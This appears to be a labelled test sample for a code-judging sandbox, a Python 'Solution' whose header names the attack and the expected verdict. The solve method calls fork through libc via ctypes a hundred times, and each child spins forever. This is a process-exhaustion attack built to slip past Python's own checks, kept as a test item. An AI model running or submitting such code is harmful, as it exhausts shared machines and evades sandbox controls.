# verdict: RE
# attack: fork through libc with ctypes, around Python's own checks
# ruff: noqa
# mypy: ignore-errors
import ctypes


class Solution:
    def solve(self, n: int) -> int:
        libc = ctypes.CDLL(None, use_errno=True)
        for _ in range(100):
            pid = libc.fork()
            if pid == 0:
                while True:
                    pass
            if pid < 0:
                raise OSError(ctypes.get_errno(), "fork failed")
        return -1
